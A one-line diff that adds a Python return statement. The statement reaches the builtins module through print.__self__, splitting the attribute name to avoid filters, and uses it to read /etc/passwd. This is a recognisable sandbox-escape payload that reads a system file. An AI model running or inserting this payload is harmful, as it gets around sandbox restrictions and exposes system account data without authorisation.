@@ -1,0 +1,1 @@
+return getattr(print, "__se" + "lf__").open("/etc/passwd").read()
